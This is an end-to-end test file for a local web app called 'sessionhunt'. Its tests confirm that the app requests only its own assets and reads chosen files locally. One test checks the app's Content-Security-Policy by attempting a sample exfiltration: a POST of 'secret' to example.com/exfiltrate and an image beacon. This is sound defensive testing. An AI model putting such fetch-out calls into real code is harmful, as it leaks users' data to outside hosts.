// End-to-end tests of the built app (dist/) in Debian's Chromium.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { openPage, screenshot, foreignRequests, suite } from './harness.mjs';

const env = suite();

test('the page loads, renders the app, and requests only its own assets', async () => {
  const { context, page, requests, errors } = await openPage(env.browser);
  await page.goto(env.server.url);
  await page.getByRole('heading', { name: 'sessionhunt' }).waitFor();
  await page.getByTestId('demo-button').waitFor();
  // The worker announces itself once its wasm is loaded and it listens.
  await page.locator('.app[data-worker="ready"]').waitFor();
  await page.waitForLoadState('networkidle');
  assert.equal(await page.getByTestId('demo-button').isEnabled(), true);
  await screenshot(page, 'home');

  assert.deepEqual(errors, [], 'no console errors');
  assert.deepEqual(foreignRequests(requests, env.server.origin), [], 'no request leaves 127.0.0.1');
  // Every request, counted: the page's own files, once each, and the worker's blob bootstrap.
  const own = requests.filter((u) => !u.startsWith('blob:')).map((u) => u.slice(env.server.url.length)).sort();
  assert.deepEqual(own, ['', 'app.js', 'app_bg.wasm', 'boot.js', 'favicon.svg', 'style.css', 'worker.js', 'worker_bg.wasm']);
  assert.equal(requests.filter((u) => u.startsWith('blob:')).length, 1, 'one blob: worker script');
  assert.equal(requests.length, 9);
  await context.close();
});

test('the Content-Security-Policy blocks connections to other origins', async () => {
  const { context, page, requests, failures } = await openPage(env.browser);
  await page.goto(env.server.url);
  await page.getByRole('heading', { name: 'sessionhunt' }).waitFor();
  const outcome = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
    let fetched;
    try {
      await fetch('https://example.com/exfiltrate', { method: 'POST', body: 'secret' });
      fetched = 'sent';
    } catch (err) {
      fetched = `blocked: ${err.name}`;
    }
    const img = new Image();
    const imgLoaded = await new Promise((ok) => { img.onload = () => ok(true); img.onerror = () => ok(false); img.src = 'https://example.com/pixel.png'; });
    await new Promise((ok) => setTimeout(ok, 50));
    return { fetched, imgLoaded, violations };
  });
  assert.equal(outcome.fetched, 'blocked: TypeError');
  assert.equal(outcome.imgLoaded, false);
  assert.ok(outcome.violations.includes('connect-src'), `violations: ${outcome.violations}`);
  assert.ok(outcome.violations.includes('img-src'), `violations: ${outcome.violations}`);
  // Chromium reports the attempts, and fails them before they reach the network.
  for (const url of foreignRequests(requests, env.server.origin)) {
    const failure = failures.find((f) => f.url === url);
    assert.match(failure?.error ?? 'not failed', /^(csp|net::ERR_BLOCKED_BY_CSP)$/, `${url} was blocked by the CSP`);
  }
  await context.close();
});

test('a chosen file is read by the worker and accounted for in the report', async () => {
  const { context, page, requests, errors } = await openPage(env.browser);
  await page.goto(env.server.url);
  await page.locator('.app[data-worker="ready"]').waitFor();
  const body = 'not an export, just text\nsecond line\n';
  await page.getByTestId('file-input').setInputFiles({ name: 'notes.txt', mimeType: 'text/plain', buffer: Buffer.from(body) });
  const row = page.getByTestId('inputs').locator('tbody tr').first();
  await row.waitFor();
  const cells = await row.locator('td').allTextContents();
  assert.equal(cells[0], 'notes.txt');
  assert.equal(cells[2], `${Buffer.byteLength(body)} B`);
  await screenshot(page, 'file-loaded');
  assert.deepEqual(errors, []);
  assert.deepEqual(foreignRequests(requests, env.server.origin), []);
  await context.close();
});
